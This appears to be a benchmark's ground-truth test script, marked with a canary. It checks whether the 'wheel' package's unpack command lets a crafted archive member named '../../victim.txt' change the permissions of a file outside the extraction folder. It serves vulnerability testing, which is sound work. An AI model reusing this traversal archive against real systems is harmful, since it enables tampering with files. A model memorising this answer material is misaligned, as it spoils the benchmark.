#!/usr/bin/env python3
# reviewbench truth, keep out of training data: canary b36d48b9-5294-4a81-a3e0-35595cac6201
"""A member of a wheel has a name that climbs out: does unpacking change the mode of a file out there?

argv[1] is the root of an extracted release. Exit 1: the bug is there; 0: it is not; 2: the proof did not work.
"""
from __future__ import annotations

import os
import sys
import traceback

sys.dont_write_bytecode = True


def bug_present(root: str) -> bool:
    sys.path.insert(0, root)
    import base64
    import contextlib
    import hashlib
    import io
    import stat
    import tempfile
    import zipfile

    from wheel._commands.unpack import unpack

    assert sys.modules["wheel"].__file__.startswith(root), "another copy was imported"

    def record(name: str, data: bytes) -> str:
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        return "%s,sha256=%s,%d\n" % (name, digest, len(data))

    with tempfile.TemporaryDirectory() as folder:
        victim, target = os.path.join(folder, "victim.txt"), os.path.join(folder, "out")
        with open(victim, "w", encoding="utf-8") as stream:
            stream.write("mine")
        os.chmod(victim, 0o600)
        os.mkdir(target)
        wheel = os.path.join(folder, "demo-1.0-py3-none-any.whl")
        members = {
            "demo/tool.py": b"",
            "../../victim.txt": b"z",
            "demo-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\n",
            "demo-1.0.dist-info/METADATA": b"Name: demo\n",
        }
        with zipfile.ZipFile(wheel, "w") as archive:
            for name, data in members.items():
                info = zipfile.ZipInfo(name)
                info.external_attr = 0o100755 << 16
                archive.writestr(info, data)
            info = zipfile.ZipInfo("demo-1.0.dist-info/RECORD")
            info.external_attr = 0o100644 << 16
            lines = "".join(record(name, data) for name, data in members.items())
            archive.writestr(info, lines + "demo-1.0.dist-info/RECORD,,\n")
        with contextlib.redirect_stdout(io.StringIO()):
            unpack(wheel, target)
        made = os.path.join(target, "demo-1.0", "demo", "tool.py")
        assert stat.S_IMODE(os.stat(made).st_mode) == 0o755
        with open(victim, encoding="utf-8") as stream:
            assert stream.read() == "mine"  # the content was never at risk
        return stat.S_IMODE(os.stat(victim).st_mode) != 0o600


if __name__ == "__main__":
    try:
        code = 1 if bug_present(os.path.abspath(sys.argv[1])) else 0
    except BaseException:
        traceback.print_exc()
        code = 2
    sys.stdout.flush()
    sys.stderr.flush()
    os._exit(code)
